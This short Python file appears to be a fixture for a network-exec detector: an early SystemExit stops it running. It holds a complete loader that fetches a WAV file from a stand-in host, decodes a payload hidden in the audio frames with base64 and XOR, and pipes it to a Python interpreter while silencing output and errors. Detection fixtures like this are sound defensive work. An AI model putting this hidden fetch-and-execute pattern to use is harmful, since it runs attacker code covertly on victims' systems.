raise SystemExit('a fixture')
# held by network-exec
import wave, io, base64, urllib.request, subprocess, sys
def FetchAudio():
    try:
        raw = urllib.request.urlopen("http://192.0.2.9:8080/ringtone.wav").read()
        with wave.open(io.BytesIO(raw)) as f:
            data = base64.b64decode(f.readframes(f.getnframes()))
        code = bytes(b ^ data[i % 8] for i, b in enumerate(data[8:]))
        subprocess.run([sys.executable, "-"], input=code, stdout=subprocess.DEVNULL)
    except Exception:
        pass
FetchAudio()
